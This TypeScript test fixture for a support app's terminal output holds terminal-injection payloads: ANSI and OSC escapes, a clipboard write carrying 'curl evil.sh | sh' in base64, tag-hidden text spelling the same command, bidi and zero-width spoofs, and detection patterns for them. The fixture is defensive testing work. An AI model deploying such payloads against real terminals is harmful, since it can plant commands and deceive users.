import type { Kysely } from 'kysely';
import type { Database } from '../../src/server/store/tables.js';

const ESC = '\u001b';

/** Text a hostile customer could send: each would act on a terminal if printed raw. */
export const HOSTILE_PAYLOADS = {
  colour: `${ESC}[31mRED${ESC}[0m`,
  clearScreen: `${ESC}[2J${ESC}[H`,
  osc52Clipboard: `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`,
  osc8Link: `${ESC}]8;;https://evil.example${ESC}\\click me${ESC}]8;;${ESC}\\`,
  titleChange: `${ESC}]0;pwned${ESC}\\`,
  dcs: `${ESC}Pq#0;2;0;0;0${ESC}\\`,
  c1Csi: '\u009b31mC1',
  bell: 'ding\u0007',
  backspaces: 'pay\b\b\bXXX',
  carriageReturn: 'approved\rDENIED',
  del: 'x\u007fy',
  bidiOverride: 'invoice \u202Egnp.exe',
  zeroWidth: 'pay\u200Bpal',
  c1Osc: '\u009d0;pwned\u009c',
  lineSeparator: 'one\u2028two',
  // Unicode tag characters spell text no terminal shows: here "curl evil.sh|sh".
  tagsHidden: `ok${hiddenInTags('curl evil.sh|sh')}\u{E007F}`,
  mongolianVowelSeparator: 'pay\u180Epal',
  softHyphen: 'pay\u00ADpal',
  combiningGraphemeJoiner: 'pay\u034Fpal',
  hangulFillers: 'Budi\u115F\u1160\u3164\uFFA0',
  // Variation selectors after an emoji carry bytes without a visible trace.
  smuggledSelectors: '😀\u{E0120}\u{E0121}\u{E0122}',
} as const;

function hiddenInTags(text: string): string {
  return [...text].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('');
}

/** Every raw control byte or sequence start that must never reach the terminal from customer text. */
export const FORBIDDEN_IN_OUTPUT = [
  ESC, '\u0007', '\u009b', '\u009d', '\u009c', '\u202E', '\u200B', '\b', '\u007f', '\u2028',
  '\u{E0063}', '\u{E007F}', '\u180E', '\u00AD', '\u034F', '\u115F', '\u1160', '\u3164', '\uFFA0', '\u{E0120}',
];

/**
 * Raw characters --json output must not carry: every control but the newlines between lines, every
 * format, bidi and default-ignorable character, U+2028/2029 and lone surrogates. JSON writes them as \uXXXX.
 */
const RAW_IN_JSON = /[[\p{Cc}--\n]\p{Cf}\p{Default_Ignorable_Code_Point}\p{Bidi_Control}\p{Cs}\u2028\u2029]/gv;

/** The code points (hex) of raw characters in JSON output that a terminal would act on or hide. */
export function rawUnsafeInJson(stdout: string): string[] {
  return [...stdout.matchAll(RAW_IN_JSON)].map((m) => m[0].codePointAt(0)!.toString(16));
}

/** Adds a customer message carrying every payload to a conversation, straight into the database. */
export async function addHostileMessage(db: Kysely<Database>, conversationId: number, now: number): Promise<string> {
  const body = Object.values(HOSTILE_PAYLOADS).join('\n');
  const conversation = await db.selectFrom('conversations').select('customer_id').where('id', '=', conversationId).executeTakeFirstOrThrow();
  await db
    .insertInto('messages')
    .values({ conversation_id: conversationId, client_message_id: null, kind: 'reply', author_type: 'customer', author_id: conversation.customer_id, author_name: `Mallory ${HOSTILE_PAYLOADS.titleChange}`, body, created_at: now })
    .execute();
  await db
    .updateTable('conversations')
    .set((eb) => ({ message_count: eb('message_count', '+', 1), subject: `Refund ${HOSTILE_PAYLOADS.colour} ${HOSTILE_PAYLOADS.bidiOverride} ${HOSTILE_PAYLOADS.tagsHidden} ${HOSTILE_PAYLOADS.hangulFillers}`, last_message_preview: body.slice(0, 140) }))
    .where('id', '=', conversationId)
    .execute();
  return body;
}
